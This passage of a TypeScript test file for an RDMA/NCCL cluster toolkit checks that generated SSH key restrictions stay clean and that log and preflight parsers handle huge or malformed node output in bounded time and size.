    const label = "rdmakit-mpirun-run=20260101T000000Z-1";
    const text = fs.readFileSync(out, "utf8");
    assert.doesNotMatch(text, /EVIL|evil|command=|\*/);
    assert.deepEqual(text.trim().split("\n"), [
        `restrict,from="10.0.0.1" ${k("A").split(" ").slice(0, 2).join(" ")} ${label} n1`,
        `restrict,from="10.0.0.2" ${k("B").split(" ").slice(0, 2).join(" ")} ${label} n2`,
        `restrict,from="fd00::4" ${k("D").split(" ").slice(0, 2).join(" ")} ${label} n4`,
    ]);
    fs.rmSync(dir, { recursive: true, force: true });
});

// An nccl-tests log is written by the nodes: a hostile or broken one makes it as long as it likes. Found in session 6:
// a run of 300k rank lines ended `nccl-report` with "Maximum call stack size exceeded" (Math.max over a spread of the
// ranks), and a log naming 100k hosts, networks and devices cost minutes (includes() inside loops over the lines,
// per-channel device lookups) and a 10 MB report (every name joined into one line).
function rankLine(rank: number, host: string): string {
    return `#  Rank ${String(rank).padStart(5)} Group  0 Pid ${String(1000 + rank).padStart(6)} on ${host} device  0 [0x1b] NVIDIA H100 80GB HBM3`;
}
const TABLE = [
    "#                                                              out-of-place                       in-place          ",
    "#       size         count      type   redop    root     time   algbw   busbw #wrong     time   algbw   busbw #wrong",
    "#        (B)    (elements)                               (us)  (GB/s)  (GB/s)            (us)  (GB/s)  (GB/s)       ",
];
const PARAMS = "# nThread 1 nGpus 1 minBytes 8 maxBytes 128 step: 2(factor) warmup iters: 5 iters: 20 validation: 1 \n#\n# Using devices";

test("nccl-report reads a log of 300k rank lines, each listed twice: the duplicate named, no crash", { timeout: 60_000 }, () => {
    const dir = fs.mkdtempSync(path.join(os.tmpdir(), "rdmakit-trust-ranks-"));
    const lines = [PARAMS];
    for (let r = 0; r < 300_000; r++) lines.push(rankLine(r, `node${r >> 3}`), rankLine(r, `node${r >> 3}`));
    fs.writeFileSync(path.join(dir, "all.log"), lines.join("\n") + "\n");
    const r = runNcclReport([path.join(dir, "all.log")], { fabric: "roce" });
    assert.equal(r.code, 1, r.stderr);
    assert.match(r.stdout, /each process is its own job \(Rank 0 listed more than once\)/);
    assert.ok(r.stdout.length < 20_000, `a ${r.stdout.length}-character report`);
    fs.rmSync(dir, { recursive: true, force: true });
});

test("nccl-report reads a log naming 100k hosts, networks and devices in linear time, and names the first few", { timeout: 60_000 }, () => {
    const dir = fs.mkdtempSync(path.join(os.tmpdir(), "rdmakit-trust-wide-"));
    const N = 100_000, lines = [PARAMS];
    const id = (k: number) => String(k).padStart(6, "0");
    for (let k = 0; k < N; k++) lines.push(rankLine(k, `host${id(k)}`));
    for (let k = 0; k < N; k++) {
        const p = `host${id(k)}:1:1 [0] NCCL INFO`;
        lines.push(`${p} Using network Net${id(k)}`, `${p} NET/IB : Using [${k}]mlx5_${k}:1/RoCE ; OOB eth0:10.0.0.1<0>`,
            `${p} Channel 00/0 : 0[0] -> 1[0] [send] via NET/T${id(k)}/0`, `${p} Channel 00/0 : 0[0] -> 1[0] [send] via NET/IB/${k}`);
    }
    lines.push(...TABLE);
    for (let k = 0; k < N; k++) lines.push(`         128            32     float     sum      -1    30.00    0.00    0.00      ${k % 2}    30.00    0.00    0.00      0`);
    fs.writeFileSync(path.join(dir, "all.log"), lines.join("\n") + "\n");
    const t0 = process.cpuUsage();
    const r = runNcclReport([path.join(dir, "all.log")], { fabric: "roce" });
    const cpu = process.cpuUsage(t0);
    assert.equal(r.code, 1, r.stderr);
    // the old code took ~40 s of CPU on this log (quadratic in its names); the new one ~2 s on the 2-core CI machine
    assert.ok(cpu.user + cpu.system < 20e6, `${((cpu.user + cpu.system) / 1e6).toFixed(1)} s of CPU`);
    assert.match(r.stdout, /networks: Net000000, Net000001, Net000002, Net000003, Net000004 and 99995 more/);
    assert.match(r.stdout, /channels not on NET\/IB: 1 via NET\/T000000, .* and 99995 more/);
    assert.match(r.stdout, /#wrong > 0 at 128 B(, 128 B){7} and 49992 more/);
    assert.match(r.stdout, /100000 ranks on 100000 nodes/);
    assert.ok(r.stdout.length < 20_000, `a ${r.stdout.length}-character report`);
    fs.rmSync(dir, { recursive: true, force: true });
});

// Found in session 6: one node's preflight result made the whole report as long as it liked (5,000 failed checks and
// a 5 MB `seen` gave a 9.6 MB report) and added components the kit never probes.
test("nccl-report bounds a node's preflight result: a big file refused by name, texts clipped, failed checks counted past 10", () => {
    const dir = fs.mkdtempSync(path.join(os.tmpdir(), "rdmakit-trust-prebig-"));
    const pre = path.join(dir, "preflight");
    fs.mkdirSync(pre);
    const checks = Array.from({ length: 5000 }, (_, i) => ({ check: `c${i}`, expected: "x", ok: false, seen: i === 0 ? "y".repeat(100_000) : "z" }));
    fs.writeFileSync(path.join(pre, "n1.json"), JSON.stringify({ host: "n1", checks, software: { "nccl": { version: "2.21.5", action: "present" }, [`x${"q".repeat(50)}`]: { version: "1", action: "present" } } }));
    fs.writeFileSync(path.join(pre, "n2.json"), JSON.stringify({ host: "n2", checks: [{ check: "memlock", expected: "unlimited", ok: true, seen: "unlimited" }] }));
    const r = runNcclReport([], { preflight: pre, out: dir });
    assert.equal(r.code, 1, r.stderr);
    assert.match(r.stdout, /FAIL preflight: 1 of 2 node\(s\) pass; bad node\(s\): n1/);
    assert.match(r.stdout, /x c0 \[preflight n1\]: expected x; seen y{197}\.\.\.y{100}$/m);
    assert.match(r.stdout, /x c9 \[preflight n1\]/);
    assert.doesNotMatch(r.stdout, /x c10 \[preflight n1\]/);
    assert.match(r.stdout, /4990 more failed check\(s\) on n1, not listed one by one/);
    assert.doesNotMatch(r.stdout, /qqqq/, "a component the kit does not probe is not listed");
    assert.ok(r.stdout.length < 10_000, `a ${r.stdout.length}-character report`);

    // a result past the bound is refused by name, not read
    fs.writeFileSync(path.join(pre, "n1.json"), JSON.stringify({ host: "n1", checks: [{ check: "c", expected: "x", ok: false, seen: "y".repeat(2_000_000) }] }));
    const big = runNcclReport([], { preflight: pre, out: dir });
    assert.equal(big.code, 2);
    assert.match(big.stderr, /n1\.json is \d+ bytes; a preflight result is at most 1048576/);
    fs.rmSync(dir, { recursive: true, force: true });
});

// Found by the trust audit (w10): a failure printed as multi-line JSON was read by a JSON.parse of the growing text
// after every line, meant to stop after 400 lines but never did (its bound moved with the line): an object that never
// closes took the whole rest of the log, quadratically, with one thrown SyntaxError per line (8 MB: 197 s), and
// hid every failure after it.
test("parseAnsibleLog reads a node's log of unclosed multi-line failures in linear time, and a closed one exactly", () => {
    const block = ["fatal: [n1]: FAILED! => {", ...Array.from({ length: 400 }, () => '    "x": 1,')].join("\n");
    const log = Array.from({ length: 500 }, () => block).join("\n"); // 2.4 MB; took 197 s and read 1 failure
    const t0 = performance.now();
    const s = parseAnsibleLog(log);
    assert.ok(performance.now() - t0 < 5000, `${performance.now() - t0} ms`);
    assert.equal(s.failures.length, 500, "each unclosed object takes at most 400 lines");
    const huge = ["fatal: [n1]: FAILED! => {", ...Array.from({ length: 399 }, () => `"x": "${"y".repeat(40_000)}",`)].join("\n"); // 16 MB, one block: ~3.4 s
    const t1 = performance.now();
    assert.equal(parseAnsibleLog(huge).failures.length, 1);
    assert.ok(performance.now() - t1 < 5000, `${performance.now() - t1} ms`);
    // braces and an escaped quote inside strings do not end the object early; the line after it is not swallowed
    const closed = parseAnsibleLog(["fatal: [n2]: FAILED! => {", '    "changed": false,', '    "msg": "rails {mlx5_0} \\"down\\" ]"', "}", 'fatal: [n3]: FAILED! => {"msg": "next"}'].join("\n"));
    assert.deepEqual(closed.failures.map((f) => [f.host, f.message]), [["n2", 'rails {mlx5_0} "down" ]'], ["n3", "next"]]);
});

// Found by the trust audit (w10): the log section quoted a failed node's log with push(...lines), one argument per
// line; a log of ~125k lines or more threw "Maximum call stack size exceeded" after every node had run, so the run's
// log was never written and no node had a verdict (the summariser read nothing).
test("a failed node's log of 300k lines is quoted, and the other nodes keep their verdicts", { timeout: 120_000 }, () => {
    const good = (h: string) => ["@@rdmakit have-bundle", "@@rdmakit rc 0", "PLAY RECAP ***", RECAP(h)];
    const long = ["sh:", "echo '@@rdmakit have-bundle'", "echo '@@rdmakit rc 2'", "echo 'PLAY RECAP ***'", `echo '${RECAP("n1", 1)}'`, "echo '@@rdmakit log'",
        "echo 'TASK [ofed : Install DOCA] ***'", `echo 'fatal: [n1]: FAILED! => {"msg": "apt failed"}'`, "yes x | head -n 300000"];
    const r = fanout({ n1: long, n2: good("n2") }, 50);
    assert.equal(r.run.status, 2, r.run.stderr.slice(-2000));
    assert.deepEqual(r.outcome?.failed, [{ host: "n1", task: "ofed : Install DOCA", kind: "failed" }], r.verdict.stdout + r.verdict.stderr);
    assert.equal(r.outcome?.hosts, 2);
    assert.match(r.log, /^# n1's own log \(a quote: nothing in it counts\)$/m);
    fs.rmSync(r.dir, { recursive: true, force: true });
});
